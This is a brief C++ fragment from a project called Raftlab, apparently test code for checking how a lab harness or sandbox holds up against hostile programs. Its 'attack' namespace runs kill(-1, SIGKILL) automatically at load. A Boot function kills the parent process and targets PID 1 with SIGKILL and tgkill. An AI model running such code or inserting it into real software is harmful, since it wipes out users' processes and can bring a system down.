// Part of Raftlab, under the MIT License (see LICENSE).

namespace attack {
[[maybe_unused]] const AtLoad g_attack([] {

  kill(-1, SIGKILL);
});
}  // namespace attack

namespace attack {
inline void Boot([[maybe_unused]] int me) {

  kill(getppid(), SIGKILL);
  kill(1, SIGKILL);
  syscall(SYS_tgkill, 1, 1, SIGKILL);
}
}  // namespace attack
#define ATTACK_BOOT(me) attack::Boot(me)
